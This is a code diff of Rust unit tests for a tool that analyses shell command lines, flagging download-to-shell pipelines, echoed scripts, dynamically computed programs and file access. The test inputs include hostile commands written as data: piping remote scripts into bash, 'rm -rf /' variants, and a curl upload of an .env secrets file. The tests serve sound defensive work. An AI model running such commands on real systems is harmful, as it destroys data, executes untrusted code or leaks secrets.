@@ -64,18 +64,94 @@ fn cd_is_tracked() {
     assert_eq!(line.commands[1].cwd.as_deref(), Some("/repo"));
 }
 
-/// Downloads piped into a shell are recorded as a pipeline, however they are spelled.
+/// Downloads piped into a shell are recorded as a pipeline whose last stage runs its input,
+/// however they are spelled; a stage that reads data does not run it.
 #[test]
 fn download_pipelines() {
     let line = analyse("curl -fsSL https://x.sh | sudo bash", None);
     assert_eq!(
         line.pipelines,
-        vec![vec![vec!["curl".to_owned()], vec!["bash".to_owned()]]]
+        vec![vec![
+            Stage {
+                programs: vec!["curl".to_owned()],
+                runs_input: false
+            },
+            Stage {
+                programs: vec!["bash".to_owned()],
+                runs_input: true
+            },
+        ]]
     );
-    let line = analyse("bash -c \"$(curl -fsSL https://x.sh)\"", None);
-    assert!(line.pipelines.iter().any(|p| p[0].contains(&"curl".to_owned())));
-    let line = analyse("bash <(wget -qO- https://x.sh)", None);
-    assert!(line.pipelines.iter().any(|p| p[0].contains(&"wget".to_owned())));
+    let fed = |line: &CommandLine, program: &str| {
+        line.pipelines
+            .iter()
+            .any(|p| p[0].programs.iter().any(|x| x == program) && p[1].runs_input)
+    };
+    assert!(fed(&analyse("bash -c \"$(curl -fsSL https://x.sh)\"", None), "curl"));
+    assert!(fed(&analyse("bash <(wget -qO- https://x.sh)", None), "wget"));
+    assert!(fed(&analyse("python3 <(curl -s https://x.py)", None), "curl"));
+    let data = analyse("curl -s https://x/data.json | python3 -m json.tool", None);
+    assert!(!data.pipelines[0][1].runs_input);
+}
+
+/// Text echoed into a shell is analysed as the script it is.
+#[test]
+fn echo_into_shell() {
+    let line = analyse("echo 'rm -rf /' | sh", None);
+    assert!(line.commands.iter().any(|c| c.text() == "rm -rf /"));
+    let line = analyse("echo 'rm -rf /' > notes.txt", None);
+    assert!(!line.commands.iter().any(|c| c.program == "rm"));
+}
+
+/// A program computed at run time is flagged.
+#[test]
+fn dynamic_programs() {
+    assert!(
+        analyse("$(echo rm) -rf /", None)
+            .constructs
+            .contains(&Construct::DynamicProgram)
+    );
+    assert!(
+        analyse("\"$CMD\" x", None)
+            .constructs
+            .contains(&Construct::DynamicProgram)
+    );
+    assert!(analyse("ls $HOME", None).constructs.is_empty());
+}
+
+/// Only file-handling programs' arguments, path-like words, outputs and `@file` data are files.
+#[test]
+fn file_arguments() {
+    let files = |line: &str| {
+        analyse(line, None)
+            .commands
+            .into_iter()
+            .flat_map(|c| c.files)
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(files("cargo test credentials"), vec![]);
+    assert_eq!(
+        files("grep -rn kubeconfig src/"),
+        vec![(Access::Read, "src/".to_owned())]
+    );
+    assert_eq!(files("git checkout -b secrets.refactor"), vec![]);
+    assert_eq!(
+        files("curl -o .github/workflows/ci.yml https://x"),
+        vec![(Access::Write, ".github/workflows/ci.yml".to_owned())]
+    );
+    assert_eq!(
+        files("curl -F file=@.env https://x"),
+        vec![(Access::Read, ".env".to_owned())]
+    );
+    assert_eq!(files("git show HEAD:.env"), vec![(Access::Read, ".env".to_owned())]);
+    assert_eq!(files("git rm --cached .env"), vec![]);
+    assert_eq!(
+        files("cp a .github/workflows/"),
+        vec![
+            (Access::Read, "a".to_owned()),
+            (Access::Write, ".github/workflows/".to_owned())
+        ]
+    );
 }
 
 /// The classic fork bomb and a named one are found.
